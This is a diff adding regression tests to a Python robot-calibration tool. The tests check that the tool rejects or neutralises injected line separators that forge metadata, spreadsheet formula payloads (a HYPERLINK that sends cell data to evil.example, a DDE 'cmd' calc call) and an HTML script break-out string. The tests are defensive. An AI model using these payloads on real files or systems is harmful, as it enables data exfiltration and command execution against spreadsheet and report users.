@@ -2475,6 +2475,145 @@ def _(b, t):
     )
 
 
+# issue 32, failure 9: a run folder's name forged '# calibration_id' and '# time_utc' lines
+@case("run-folder-name-injects-metadata")
+def _(b, t):
+    plan = t / "plan" / "plan.json"
+    assert main(["plan", "--cell", "reference", "--n", "12", "--out", str(plan.parent)]) == 0
+    out = t / "run7\n# calibration_id: FAKE-CAL\n# time_utc: 1999-01-01T00:00:00Z"
+    return Case(
+        ["run", "--cell", "reference", "--plan", str(plan), "--out", str(out), "--sim"],
+        2,
+        r"--out: the run folder's name \(its run id\) 'run7\\n# calibration_id: FAKE-CAL.*"
+        r"holds a line break or control character \(U\+000A at character 5\)",
+        [plan],
+        [out],
+    )
+
+
+# issue 32, failure 10: every line break str.splitlines knows, not only \n
+for _sep in ("\u2028", "\u2029", "\x85", "\x1e", "\x0c"):
+
+    @case(f"import-instrument-with-line-separator-U+{ord(_sep):04X}")
+    def _(b, t, sep=_sep):
+        return _with(
+            _import(t, _EXPORT, "--instrument", f"Leica AT960{sep}# calibration_id: spoofed"),
+            rf"--instrument 'Leica AT960.*holds a line break .*\(U\+{ord(sep):04X} at character 12\)",
+        )
+
+
+@case("archive-add-calibration-id-with-line-separator")
+def _(b, t):
+    run = _run_copy(b, t, lambda r: None)
+    return _with(
+        _archive_add(b, t, run) if False else Case(
+            ["archive", "add", str(run), "--robot", "cell3", "--archive", str(t / "arch"),
+             "--calibration-id", "cal-1\u2028# software_version: 9.9"],
+            2, "", [run], [t / "arch"],
+        ),
+        r"--calibration-id 'cal-1\\u2028# software_version: 9\.9' holds a line break",
+    )  # fmt: skip
+
+
+@case("archive-add-run-whose-metadata-holds-a-line-separator")
+def _(b, t):
+    def edit(r: Path) -> None:  # a run.json written by hand (or by an older version)
+        (r / "run.json").write_text(json.dumps({"cell": "reference\u2029# plan_hash: x"}))
+
+    run = _run_copy(b, t, edit)
+    return _with(
+        _archive_add(b, t, run),
+        r"run: its cell 'reference\\u2029# plan_hash: x' holds a line break",
+    )
+
+
+_FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+             "+1+cmd", "-2+cmd", "-cmd")  # fmt: skip
+
+
+def _formula_csv(b, t: Path) -> Path:
+    rows = _good_rows(b)
+    ids = [_FORMULAS[i % len(_FORMULAS)] if i < 10 else f"p{i}" for i in range(len(rows))]
+    buf = ["pose_id,q1,q2,q3,q4,q5,q6,x,y,z"]
+    for pid, r in zip(ids, rows, strict=True):
+        buf.append('"' + pid.replace('"', '""') + '",' + ",".join(f"{v!r}" for v in r))
+    p = t / "formulas.csv"
+    p.write_text("\n".join(buf) + "\n")
+    return p
+
+
+def _no_formula_cells(path: Path) -> None:
+    """No cell of ``path`` begins as a formula would (numbers aside), as a spreadsheet reads it."""
+    import csv as _csv
+
+    for row in _csv.reader(path.read_text().splitlines()):
+        for cell in row:
+            assert not (cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
+                r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)), (path.name, cell)  # fmt: skip
+
+
+# issue 32, failure 11: pose ids became spreadsheet formulas in every CSV the product writes
+@case("pose-ids-that-are-formulas-fit-residuals")
+def _(b, t):
+    csv = _formula_csv(b, t)
+    out = t / "out"
+
+    def check() -> None:
+        _no_formula_cells(out / "residuals.csv")
+        assert "'=HYPERLINK(" in (out / "residuals.csv").read_text()
+        again = formats.read_measurements(csv, 6).pose_id
+        assert again[:5] == _FORMULAS  # read as written: the ids keep their meaning
+        m = formats.read_measurements(csv, 6)
+        formats.write_measurements(t / "copy.csv", m)
+        _no_formula_cells(t / "copy.csv")
+        assert formats.read_measurements(t / "copy.csv", 6).pose_id == m.pose_id
+
+    return Case(_fit(csv, t, "--max-order", "1"), 0, r"wrote .*residuals\.csv", [csv], [],
+                check=check)  # fmt: skip
+
+
+@case("pose-ids-that-are-formulas-predict-and-plan-select")
+def _(b, t):
+    csv = _formula_csv(b, t)
+
+    def check() -> None:
+        _no_formula_cells(t / "pred.csv")
+        assert main(["plan", "select", str(csv), "--robot", "ur5", "--n", "30",
+                     "--out", str(t / "chosen.csv")]) == 0  # fmt: skip
+        _no_formula_cells(t / "chosen.csv")
+        chosen = formats.read_measurements(t / "chosen.csv", 6, joints_only=True).pose_id
+        assert set(chosen) <= set(formats.read_measurements(csv, 6).pose_id)
+
+    return Case(["identify", "predict", str(b["dir"] / "model.json"), str(csv), "--out",
+                 str(t / "pred.csv")], 0, r"wrote .*pred\.csv", [csv], [], check=check)  # fmt: skip
+
+
+# issue 32, failure 12: a CSV comment held the report's embedded JSON open
+@case("report-json-element-cannot-be-broken-open")
+def _(b, t):
+    def edit(r: Path) -> None:
+        _report_v1(r)
+        text = (r / "measurements.csv").read_text()
+        (r / "measurements.csv").write_text(
+            "# note: <!--<script>alert(1)</script> & </script><b>\n" + text
+        )
+
+    run = _run_copy(b, t, edit)
+
+    def check() -> None:
+        page = (run / "report.html").read_text()
+        m = re.search(
+            r'<script type="application/json" id="report-json">(.*?)</script>', page, re.S
+        )
+        assert m is not None and "<" not in m.group(1) and ">" not in m.group(1)
+        doc = json.loads(m.group(1))
+        assert "<!--<script>" in json.dumps(doc, ensure_ascii=False)  # the text, kept
+        assert page.count("<script") == 1  # nothing else became a script element
+
+    return Case(["report", str(run), "--no-diagnose", "--archive", str(t / "arch")], 0,
+                r"report\.html", [run / "measurements.csv"], [], check=check)  # fmt: skip
+
+
 # ------------------------------------------------------------------------------ runner
 
 
